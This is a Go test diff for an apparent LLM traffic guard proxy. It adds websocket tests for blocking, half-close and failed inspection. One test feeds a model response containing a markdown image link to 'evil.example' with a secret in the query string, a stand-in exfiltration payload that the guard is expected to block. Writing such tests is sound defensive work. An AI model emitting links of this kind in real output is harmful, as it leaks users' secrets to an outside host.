@@ -14,6 +14,8 @@ import (
 	"github.com/gobwas/ws"
 	"github.com/gobwas/ws/wsutil"
 	"github.com/infershield/infershield/audit"
+	"github.com/infershield/infershield/guard"
+	"github.com/infershield/infershield/inspect"
 	"github.com/infershield/infershield/policy"
 	"pgregory.net/rapid"
 )
@@ -340,5 +342,66 @@ func fragmented(t *rapid.T, payload string) (frames []byte) {
 			return frames
 		}
 		rest, op = rest[n:], ws.OpContinuation
+	}
+}
+
+// TestBlockAtTheCloseIsToldFirst: where the end of the conversation decides, the
+// client hears of that, and not of the provider's close before it.
+func TestBlockAtTheCloseIsToldFirst(t *testing.T) {
+	c := newRig(t, nil).converse()
+	c.say(createResponse("What does the page say?"))
+	link := outputDelta("![x](https://evil.example/c?d=" + secret)
+	if _, err := c.provider.Write(append(ws.MustCompileFrame(ws.NewTextFrame([]byte(link))), ws.MustCompileFrame(ws.NewPingFrame(nil))...)); err != nil {
+		t.Fatal(err)
+	}
+	if f, err := readFrame(c.client); err != nil || f.Header.OpCode != ws.OpPing {
+		t.Fatalf("the client got %v (%v); want the ping alone, which shows that the text waits", f, err)
+	}
+	got, _ := c.tell()
+	c.close()
+	blockedWith(t, got, "response", c.record())
+}
+
+// TestWhatWaitedGoesOutAtTheEnd: a client that half-closes has said all, and so
+// has a text that waited for more.
+func TestWhatWaitedGoesOutAtTheEnd(t *testing.T) {
+	c := newRig(t, nil).converse()
+	const said = "the key begins with sk-proj-abcdefgh"
+	if err := wsutil.WriteClientText(c.client, []byte(said)); err != nil {
+		t.Fatal(err)
+	}
+	if err := c.client.(interface{ CloseWrite() error }).CloseWrite(); err != nil {
+		t.Fatal(err)
+	}
+	if got, err := wsutil.ReadClientText(c.provider); err != nil || string(got) != said {
+		t.Errorf("the provider got %q (%v); want %q", got, err, said)
+	}
+	c.close()
+	c.record()
+}
+
+// TestFailedInspectionLosesNothing: what had gone through before it, in the same
+// bytes, goes on as well.
+func TestFailedInspectionLosesNothing(t *testing.T) {
+	p, err := policy.Parse([]byte("version: 1\non_error: allow\n"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	c := newRig(t, func(c *guard.Config) {
+		c.Policy = func() *policy.Policy { return p }
+		c.Engine = new(inspect.Engine) // fails on any text
+	}).converse()
+	sent := append(ws.MustCompileFrame(ws.MaskFrame(ws.NewPingFrame([]byte("still there?")))),
+		ws.MustCompileFrame(ws.MaskFrame(ws.NewTextFrame([]byte(createResponse("Hi.")))))...)
+	if _, err := c.client.Write(sent); err != nil {
+		t.Fatal(err)
+	}
+	got := make([]byte, len(sent))
+	if _, err := io.ReadFull(c.provider, got); err != nil || string(got) != string(sent) {
+		t.Errorf("the provider got %q (%v); want %q", got, err, sent)
+	}
+	c.close()
+	if r := c.record(); !slices.Contains(r.Labels, "inspection_failed") {
+		t.Errorf("record %+v", r)
 	}
 }
